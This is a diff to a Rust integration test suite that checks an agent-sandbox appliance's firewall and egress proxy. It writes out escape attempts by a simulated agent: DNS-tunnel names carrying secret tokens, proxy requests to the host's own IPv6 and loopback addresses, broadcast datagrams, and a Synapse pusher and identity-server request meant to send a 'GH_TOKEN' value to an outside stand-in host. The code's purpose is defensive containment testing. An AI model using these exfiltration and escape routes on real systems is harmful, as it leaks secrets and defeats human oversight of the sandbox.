@@ -32,7 +32,12 @@
 //!    VM);
 //! 5. the bridge resolver's upstream (the host's own resolvers on the
 //!    appliance, from /etc/resolv.conf) is the outside DNS server
-//!    (`--server`), so a name query that gets through is seen there.
+//!    (`--server`), so a name query that gets through is seen there;
+//! 6. the appliance namespace has no br_netfilter (`bridge-nf-call-*` off):
+//!    frames between sandboxes meet only the bridge table, the case
+//!    `firewall-bridge.nft` is written for;
+//! 7. the firewall's rule for squid's own connections names Debian's
+//!    `proxy` user, squid's user here (adaptation 2).
 
 use std::collections::{BTreeMap, BTreeSet};
 use std::fs;
@@ -45,7 +50,7 @@ use std::time::{Duration, Instant};
 use agent_appliance::commands::load;
 use agent_appliance::docker::run_options;
 use agent_appliance::model::{Appliance, BindSource, Egress, Host, Sandbox};
-use agent_appliance::render::egress::{BRIDGE_TABLE, INET_TABLE, bridge_table, inet_table, proxy_config};
+use agent_appliance::render::egress::{BRIDGE_TABLE, INET_TABLE, PROXY_USER, bridge_table, inet_table, proxy_config};
 use agent_appliance::render::runtimes::daemon_settings;
 use agent_appliance::runsc::probe_binary;
 use agent_appliance::spec::schema::Platform;
@@ -63,6 +68,8 @@ const PRIVATE_HOST: &str = "192.168.77.2";
 const HOST_OTHER_PORT: &str = "9999";
 /// Where the listener sandbox serves, for the sandbox-to-sandbox check.
 const LISTENER_PORT: &str = "8080";
+/// Where the listener sandbox takes UDP datagrams (broadcast, multicast).
+const DATAGRAM_PORT: &str = "5999";
 
 /// The outside DNS server's names.
 const NAMES: &[(&str, &str)] = &[
@@ -371,7 +378,7 @@ fn start_service_standin(
             "sh",
             "-c",
             &format!(
-                "mkdir -p /tmp/www && echo 'site {label}' > /tmp/www/index.html && httpd -f -p {port} -h /tmp/www"
+                "mkdir -p /tmp/www && echo 'site {label}' > /tmp/www/index.html && httpd -p {port} -h /tmp/www && exec sleep 100000"
             ),
         ])
         .output()
@@ -379,6 +386,108 @@ fn start_service_standin(
     assert!(started.status.success(), "{}", String::from_utf8_lossy(&started.stderr));
     let address = sandbox.network.as_ref().unwrap().address.to_string();
     wait_for_http(netns, probe, &address, port);
+}
+
+/// Without br_netfilter, a stateless reply rule (service port to client)
+/// would let a service sandbox open a connection from its service port to
+/// a client's listening port: each service sandbox the listener reaches
+/// tries exactly that.
+/// (The stand-in's httpd, which holds the port, stops for the try.)
+fn service_sandboxes_open_nothing(
+    daemon: &Dockerd,
+    netns: &Netns,
+    probe: &Path,
+    host: &Host,
+    listener: &Sandbox,
+    address: &str,
+) -> Vec<String> {
+    let services: Vec<(&Sandbox, u16)> = host
+        .sandboxes
+        .iter()
+        .filter(|s| s.agent.is_empty())
+        .filter_map(|service| {
+            let service_address = service.network.as_ref()?.address;
+            let reach = listener.reach.iter().find(|r| r.address == service_address)?;
+            Some((service, reach.port))
+        })
+        .collect();
+    let has_services = host.sandboxes.iter().any(|s| s.agent.is_empty() && s.network.is_some());
+    assert!(
+        services.is_empty() != has_services,
+        "the listener `{}` reaches no service sandbox of the host: the check would prove nothing",
+        listener.name
+    );
+    let mut failures = Vec::new();
+    for (service, port) in services {
+        let script = format!(
+            "killall httpd; sleep 1; probe get-from {port} {address} {LISTENER_PORT} /; httpd -p {port} -h /tmp/www"
+        );
+        let output = daemon.docker(&["exec", &format!("egress-{}", service.name), "sh", "-c", &script]);
+        let output = String::from_utf8_lossy(&output.stdout).into_owned();
+        let service_address = service.network.as_ref().unwrap().address.to_string();
+        wait_for_http(netns, probe, &service_address, &port.to_string());
+        // A firewall drop shows as the probe's timeout.
+        if !output.contains("get-from: ") && !output.contains("FAIL timeout") {
+            failures.push(format!(
+                "{}: the try from its service port did not run: {output}",
+                service.name
+            ));
+        }
+        eprintln!(
+            "{} | from its service port {port} to {address}:{LISTENER_PORT} | {}",
+            service.name,
+            output.trim()
+        );
+        if output.contains("site listener") {
+            failures.push(format!(
+                "{}: opened a connection from its service port {port} to the sandbox at {address}: {output}",
+                service.name
+            ));
+        }
+    }
+    failures
+}
+
+/// A UDP receiver in the listener sandbox, logging each datagram; the host
+/// sends it one first (a control that it receives).
+fn start_datagram_receiver(daemon: &Dockerd, netns: &Netns, probe: &Path, address: &str) {
+    let started = daemon.docker(&[
+        "exec",
+        "--detach",
+        "egress-listener",
+        "sh",
+        "-c",
+        &format!("probe udp-recv {DATAGRAM_PORT} > /tmp/datagrams.log 2>&1"),
+    ]);
+    assert!(started.status.success(), "{}", String::from_utf8_lossy(&started.stderr));
+    let deadline = Instant::now() + Duration::from_secs(30);
+    while !datagram_log(daemon).contains("udp-recv: control") {
+        let _ = netns
+            .command(probe.to_str().unwrap())
+            .args(["udp-send", address, DATAGRAM_PORT, "control"])
+            .output();
+        assert!(
+            Instant::now() < deadline,
+            "the listener receives no datagram from the host: {}",
+            datagram_log(daemon)
+        );
+        std::thread::sleep(Duration::from_millis(300));
+    }
+}
+
+fn datagram_log(daemon: &Dockerd) -> String {
+    let output = daemon.docker(&["exec", "egress-listener", "cat", "/tmp/datagrams.log"]);
+    String::from_utf8_lossy(&output.stdout).into_owned()
+}
+
+/// Broadcast and multicast the other sandboxes sent must not have arrived.
+fn datagrams_received(daemon: &Dockerd) -> Vec<String> {
+    let log = datagram_log(daemon);
+    eprintln!("datagrams the listener received:\n{log}");
+    log.lines()
+        .filter(|l| l.starts_with("udp-recv: ") && !l.ends_with(": control") && !l.ends_with(": ok"))
+        .map(|l| format!("the listener sandbox received a frame from another sandbox: {l}"))
+        .collect()
 }
 
 /// A busybox httpd answering `site <label>` on `address:port` in `netns`.
@@ -461,6 +570,12 @@ fn tunnel_name(sandbox: &str) -> String {
     format!("mzxw6ytboi.secret-token-{sandbox}.tunnel.example.org")
 }
 
+/// The same through the egress proxy: squid resolving a name a sandbox
+/// asks for carries the name to the outside DNS server.
+fn proxy_tunnel_name(sandbox: &str) -> String {
+    format!("mzxw6ytboi.proxy-secret-{sandbox}.tunnel.example.org")
+}
+
 fn cases(sandbox: &Sandbox, gateway: &str, others: &[String], services: &[(&str, SocketAddrV4)]) -> Vec<Case> {
     let reaches = |service: &str| sandbox.reach.iter().any(|r| r.service == service);
     let mut cases = Vec::new();
@@ -537,6 +652,17 @@ fn cases(sandbox: &Sandbox, gateway: &str, others: &[String], services: &[(&str,
             false,
         ));
     }
+    if !others.is_empty() {
+        // Sent, but the listener must not receive them (checked from its log).
+        for (kind, address) in [("broadcast", "255.255.255.255"), ("multicast", "224.0.0.1")] {
+            cases.push(case(
+                format!("{kind} datagram to the other sandboxes"),
+                format!("probe udp-send {address} {DATAGRAM_PORT} {kind}-from-{}", sandbox.name),
+                true,
+                "udp-send: ok",
+            ));
+        }
+    }
     let proxy = format!("{gateway} {}", agent_appliance::model::PROXY_PORT);
     let web = sandbox.egress == Egress::Web;
     // A domain list's first name is served by the test DNS, its last points
@@ -608,6 +734,38 @@ fn cases(sandbox: &Sandbox, gateway: &str, others: &[String], services: &[(&str,
         false,
     ));
     cases.push(proxied("proxy: loopback", &proxy, "http://127.0.0.1/", false));
+    // The proxy host itself, by any of its addresses (a listener of the host
+    // serves `site host` on [::]:80, so on every address it has).
+    for url in [
+        "http://[::]/",
+        "http://[::1]/",
+        "http://[::ffff:127.0.0.1]/",
+        "http://0.0.0.0/",
+        &format!("http://{UPLINK}/"),
+    ] {
+        cases.push(case(
+            format!("proxy: this host itself, {url}"),
+            format!("probe get {proxy} {url}"),
+            false,
+            "site host",
+        ));
+    }
+    for target in ["[::]:80".to_string(), format!("{UPLINK}:80")] {
+        cases.push(case(
+            format!("proxy: CONNECT to this host itself, {target}"),
+            format!("probe connect {proxy} {target}"),
+            false,
+            "site host",
+        ));
+    }
+    // A name outside the sandbox's list is refused before squid resolves
+    // it: the outside DNS server's log shows whose query got out.
+    cases.push(proxied(
+        "proxy: unlisted name carrying data",
+        &proxy,
+        &format!("http://{}/", proxy_tunnel_name(&sandbox.name)),
+        web,
+    ));
     cases.push(proxied(
         "proxy: appliance's Matrix",
         &proxy,
@@ -763,6 +921,14 @@ fn build_world(scratch: &Path, tag: &str, network: &str) -> World {
     // firewall lets through really arrives.
     outside.ip(&["route", "add", network, "via", UPLINK]);
     run_ok(appliance.command("sysctl").args(["-qw", "net.ipv4.ip_forward=1"]));
+    // Adaptation 6: no br_netfilter in this namespace.
+    for family in ["iptables", "ip6tables", "arptables"] {
+        run_ok(
+            appliance
+                .command("sysctl")
+                .args(["-qw", &format!("net.bridge.bridge-nf-call-{family}=0")]),
+        );
+    }
     let mut servers = vec![
         web_server(&outside, scratch, "internet", INTERNET, "80"),
         web_server(&outside, scratch, "internet", INTERNET, "443"),
@@ -794,11 +960,19 @@ fn build_world(scratch: &Path, tag: &str, network: &str) -> World {
     }
 }
 
-/// The generated bodies in their tables, as `networking.nftables.tables` does.
+/// The generated bodies in their tables, as `networking.nftables.tables`
+/// does, with adaptation 7.
 fn ruleset(host: &Host, appliance: &Appliance) -> String {
+    let squid_user = format!("meta skuid \"{PROXY_USER}\"");
+    let inet = inet_table(host);
+    assert_eq!(
+        inet.contains(&squid_user),
+        proxy_config(host).is_some(),
+        "the firewall holds the egress proxy's own connections exactly when it runs:\n{inet}"
+    );
     format!(
         "table inet {INET_TABLE} {{\n{}}}\ntable bridge {BRIDGE_TABLE} {{\n{}}}\n",
-        inet_table(host),
+        inet.replace(&squid_user, "meta skuid \"proxy\""),
         bridge_table(host, &appliance.network)
     )
 }
@@ -908,6 +1082,9 @@ fn prove(spec_dir: &Path, host_name: &str, suffix: &str) {
         "0.0.0.0",
         HOST_OTHER_PORT,
     ));
+    // A web server of the host on every address it has, IPv6 and IPv4
+    // alike: the proxy must not reach it.
+    services.push(web_server(&world.appliance, scratch, "host", "[::]", "80"));
     // The bridge resolver, with the generated module's settings, when the
     // host runs one (a sandbox with `web` egress), forwarding to the
     // outside DNS server in place of the host's resolvers.
@@ -961,6 +1138,7 @@ fn prove(spec_dir: &Path, host_name: &str, suffix: &str) {
         (gateway.as_str(), appliance.matrix.port.to_string()),
         (gateway.as_str(), agent_appliance::model::PROXY_PORT.to_string()),
         (INTERNET, "80".to_string()),
+        (UPLINK, "80".to_string()),
     ] {
         wait_for_http(&world.appliance, &probe, address, &port);
     }
@@ -1031,7 +1209,20 @@ fn prove(spec_dir: &Path, host_name: &str, suffix: &str) {
 
     // A listener in the last sandbox, for the sandbox-to-sandbox checks; the
     // host itself reaches it (a control that it listens).
-    let listener = networked.last().unwrap().clone();
+    // A client of a service sandbox where there is one: the service then
+    // tries to open a connection to it (service_sandboxes_open_nothing).
+    let service_addresses: Vec<_> = hub
+        .sandboxes
+        .iter()
+        .filter(|s| s.agent.is_empty())
+        .filter_map(|s| s.network.as_ref().map(|n| n.address))
+        .collect();
+    let listener = networked
+        .iter()
+        .rev()
+        .find(|s| s.reach.iter().any(|r| service_addresses.contains(&r.address)))
+        .unwrap_or_else(|| networked.last().unwrap())
+        .clone();
     let mut listener_args = sandbox_args(&listener, &generated, scratch);
     listener_args.insert(0, "--detach".into());
     listener_args.insert(1, "--name=egress-listener".into());
@@ -1050,16 +1241,31 @@ fn prove(spec_dir: &Path, host_name: &str, suffix: &str) {
     assert!(started.status.success(), "{}", String::from_utf8_lossy(&started.stderr));
     let listener_address = listener.network.as_ref().unwrap().address.to_string();
     wait_for_http(&world.appliance, &probe, &listener_address, LISTENER_PORT);
+    failures.extend(service_sandboxes_open_nothing(
+        &daemon,
+        &world.appliance,
+        &probe,
+        &hub,
+        &listener,
+        &listener_address,
+    ));
+    start_datagram_receiver(&daemon, &world.appliance, &probe, &listener_address);
 
     let mut observed = Vec::new();
     let mut seen = BTreeMap::new();
-    for sandbox in &networked {
+    // The listener goes last: the others try it while it listens.
+    let in_order = networked
+        .iter()
+        .filter(|s| s.name != listener.name)
+        .chain(std::iter::once(&listener));
+    for sandbox in in_order {
         let others: Vec<String> = if sandbox.name == listener.name {
             Vec::new()
         } else {
             vec![listener_address.clone()]
         };
         if sandbox.name == listener.name {
+            failures.extend(datagrams_received(&daemon));
             let _ = daemon.docker(&["rm", "-f", "egress-listener"]);
         }
         let cases = cases(sandbox, &gateway, &others, &services_of(&appliance, host_name));
@@ -1168,6 +1374,20 @@ fn prove(spec_dir: &Path, host_name: &str, suffix: &str) {
             ));
         }
     }
+    // ... and through squid: it resolves names only for sandboxes with `web`
+    // egress; a domain-list sandbox's unlisted name is refused unresolved.
+    for sandbox in networked.iter().filter(|s| s.egress.uses_proxy()) {
+        let reached = dns_log.contains(&format!("proxy-secret-{}.", sandbox.name));
+        let may = sandbox.egress == Egress::Web;
+        if reached != may {
+            failures.push(format!(
+                "{}: squid {} its unlisted name to the outside DNS server, but its egress is {:?}",
+                sandbox.name,
+                if reached { "sent" } else { "did not send" },
+                sandbox.egress
+            ));
+        }
+    }
     // The proxy saw and refused what it should (its log, for the record).
     let access = fs::read_to_string(scratch.join("squid/access.log")).unwrap_or_default();
     if !access.contains("TCP_DENIED/403") {
@@ -1208,4 +1428,225 @@ fn egress_values_are_checked() {
             "{line}: {err}"
         );
     }
+}
+
+/// A public address of an "outside" host, inside the Synapse test's own
+/// namespace: none of Synapse's default refused ranges (which hold the
+/// documentation ranges and loopback) covers it, so only the appliance's
+/// settings can keep Synapse from it.
+const OUTSIDE_HOST: &str = "100.128.0.2";
+
+/// Runs `f` on a thread inside `netns`: its sockets are the namespace's.
+fn in_namespace<T: Send + 'static>(netns: &Netns, f: impl FnOnce() -> T + Send + 'static) -> T {
+    let path = netns.path();
+    std::thread::spawn(move || {
+        let file = fs::File::open(&path).unwrap();
+        rustix::thread::move_into_link_name_space(
+            std::os::fd::AsFd::as_fd(&file),
+            Some(rustix::thread::LinkNameSpaceType::Network),
+        )
+        .unwrap();
+        f()
+    })
+    .join()
+    .unwrap()
+}
+
+/// Synapse as a way out: an agent with only its own Matrix token registers
+/// an HTTP pusher (any URL, its pushkey carrying data) and names its own
+/// identity server (`/account/3pid/unbind`); Synapse, on the host and behind
+/// no proxy, must connect to neither. Real Synapse 1.163 with the generated
+/// settings, in a namespace of the test's own where a listener on a public
+/// address stands for the outside and counts every connection. The unit's
+/// address filter (`IPAddressDeny=any`) needs systemd and is checked in the
+/// generated module instead (render::synapse's tests).
+#[test]
+fn synapse_connects_nowhere_on_an_agents_word() {
+    let Some(venv) = crate::synapse::venv() else { return };
+    if !rustix::process::geteuid().is_root() {
+        assert!(
+            !in_ci(),
+            "the Synapse egress test makes a network namespace and must run as root in CI"
+        );
+        eprintln!("\n!!! SKIPPED: the Synapse egress test needs root; CI=true makes this a failure !!!\n");
+        return;
+    }
+    let temp = tempfile::tempdir().unwrap();
+    let (data, state) = (temp.path().join("synapse"), temp.path().join("state"));
+    let port = crate::synapse::free_port();
+    let settings = crate::synapse::settings(&data, &state, port);
+    let mut shared_secret = String::new();
+    for key in [
+        "registration_shared_secret_path",
+        "macaroon_secret_key_path",
+        "form_secret_path",
+    ] {
+        let path = PathBuf::from(settings[key].as_str().unwrap());
+        fs::create_dir_all(path.parent().unwrap()).unwrap();
+        let secret = format!("test-{key}-{}", std::process::id());
+        fs::write(&path, &secret).unwrap();
+        if key == "registration_shared_secret_path" {
+            shared_secret = secret;
+        }
+    }
+    let netns = Netns::create(&format!("h6s-{}", std::process::id()));
+    netns.ip(&["addr", "add", &format!("{OUTSIDE_HOST}/32"), "dev", "lo"]);
+    let url = format!("http://127.0.0.1:{port}");
+    let wrapper = vec!["nsenter".to_string(), format!("--net={}", netns.path()), "--".into()];
+    let mut synapse = crate::synapse::Synapse::spawn(&venv, &data, &settings, &url, &wrapper);
+    let server_name = settings["server_name"].as_str().unwrap().to_string();
+    let register = venv.join("bin/register_new_matrix_user");
+    let (seen, synapse) = in_namespace(&netns, move || {
+        let outside = std::net::TcpListener::bind(format!("{OUTSIDE_HOST}:0")).unwrap();
+        let outside_port = outside.local_addr().unwrap().port();
+        let connections = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+        let counted = connections.clone();
+        std::thread::spawn(move || {
+            for stream in outside.incoming() {
+                counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+                drop(stream);
+            }
+        });
+        synapse.wait_ready();
+        agent_tries_to_get_synapse_out(&url, &register, &shared_secret, &server_name, outside_port);
+        std::thread::sleep(Duration::from_secs(5));
+        (connections.load(std::sync::atomic::Ordering::SeqCst), synapse)
+    });
+    let log = fs::read_to_string(&synapse.log).unwrap_or_default();
+    drop(synapse);
+    assert_eq!(
+        seen,
+        0,
+        "Synapse connected {seen} time(s) to the outside address an agent named:\n{}",
+        log.lines()
+            .filter(|l| l.contains("push") || l.contains("identity") || l.contains("lock"))
+            .collect::<Vec<_>>()
+            .join("\n")
+    );
+}
+
+/// What an agent with only its own token does to make Synapse connect to
+/// `OUTSIDE_HOST:port`: a pusher there, a message that makes Synapse push
+/// it, and an identity server there to unbind from.
+fn agent_tries_to_get_synapse_out(url: &str, register: &Path, shared_secret: &str, server_name: &str, port: u16) {
+    let client = agent_appliance::bootstrap::client::Client::new(
+        url,
+        Instant::now() + Duration::from_secs(120),
+        Duration::from_secs(30),
+    );
+    let token = |user: &str| {
+        run_ok(
+            Command::new(register)
+                .args(["--user", user, "--password", "pw-of-the-test", "--admin"])
+                .args(["--shared-secret", shared_secret, url]),
+        );
+        let login = client
+            .post(
+                "/_matrix/client/v3/login",
+                None,
+                &serde_json::json!({
+                    "type": "m.login.password",
+                    "identifier": { "type": "m.id.user", "user": user },
+                    "password": "pw-of-the-test",
+                }),
+            )
+            .unwrap();
+        assert!(login.ok(), "{}", login.describe());
+        login.str("access_token").unwrap().to_string()
+    };
+    let (admin, agent) = (token("admin"), token("agent"));
+    let pusher = client
+        .post(
+            "/_matrix/client/v3/pushers/set",
+            Some(&agent),
+            &serde_json::json!({
+                "kind": "http",
+                "app_id": "exfiltrate",
+                "pushkey": "GH_TOKEN=ghp_secret-of-the-agent",
+                "app_display_name": "x",
+                "device_display_name": "x",
+                "lang": "en",
+                "data": { "url": format!("http://{OUTSIDE_HOST}:{port}/_matrix/push/v1/notify") },
+            }),
+        )
+        .unwrap();
+    eprintln!("pusher registration: {}", pusher.describe());
+    let room = client
+        .post(
+            "/_matrix/client/v3/createRoom",
+            Some(&admin),
+            &serde_json::json!({ "invite": [format!("@agent:{server_name}")] }),
+        )
+        .unwrap();
+    assert!(room.ok(), "{}", room.describe());
+    let room_id = agent_appliance::bootstrap::client::segment(room.str("room_id").unwrap());
+    let joined = client
+        .post(
+            &format!("/_matrix/client/v3/rooms/{room_id}/join"),
+            Some(&agent),
+            &serde_json::json!({}),
+        )
+        .unwrap();
+    assert!(joined.ok(), "{}", joined.describe());
+    for n in 0..3 {
+        let sent = client
+            .put(
+                &format!("/_matrix/client/v3/rooms/{room_id}/send/m.room.message/m{n}"),
+                Some(&admin),
+                &serde_json::json!({ "msgtype": "m.text", "body": "hello agent" }),
+            )
+            .unwrap();
+        assert!(sent.ok(), "{}", sent.describe());
+    }
+    let unbind = client
+        .post(
+            "/_matrix/client/v3/account/3pid/unbind",
+            Some(&agent),
+            &serde_json::json!({
+                "medium": "email",
+                "address": "secret-of-the-agent@example.org",
+                "id_server": format!("{OUTSIDE_HOST}:{port}"),
+            }),
+        )
+        .unwrap();
+    eprintln!("3pid unbind: {}", unbind.describe());
+}
+
+/// A long domain list still makes a configuration squid parses: squid
+/// reads a line of at most a few KiB, and 600 names on one `acl` line
+/// (about 18 KiB here) broke `squid -k parse`. The real squid reads the
+/// generated file (with adaptation 2).
+#[test]
+fn a_long_domain_list_makes_a_config_squid_parses() {
+    let Some(squid) = require_tool("squid", "the egress proxy's configuration") else {
+        return;
+    };
+    let domains: Vec<String> = (0..600)
+        .map(|n| format!("\"d{n}.long-domain-list.example.org\""))
+        .collect();
+    let base = fs::read_to_string(root().join("examples/minimal/appliance.toml")).unwrap();
+    let text = base.replacen(
+        "kind = \"picoclaw\"",
+        &format!("kind = \"picoclaw\"\negress = [{}]", domains.join(", ")),
+        1,
+    );
+    let dir = tempfile::tempdir().unwrap();
+    fs::write(dir.path().join("appliance.toml"), text).unwrap();
+    let appliance = load(&dir.path().join("appliance.toml")).unwrap();
+    let host = appliance.hosts.values().next().unwrap();
+    let config = squid_config(host, dir.path());
+    let acl_lines = config.lines().filter(|l| l.contains(".long-domain-list.example.org"));
+    assert_eq!(acl_lines.count(), 600, "one line per name:\n{config}");
+    let file = dir.path().join("squid.conf");
+    fs::write(&file, &config).unwrap();
+    let parse = Command::new(squid)
+        .args(["-k", "parse", "-f"])
+        .arg(&file)
+        .output()
+        .unwrap();
+    assert!(
+        parse.status.success(),
+        "squid rejects the configuration of a 600-name list: {}",
+        String::from_utf8_lossy(&parse.stderr)
+    );
 }
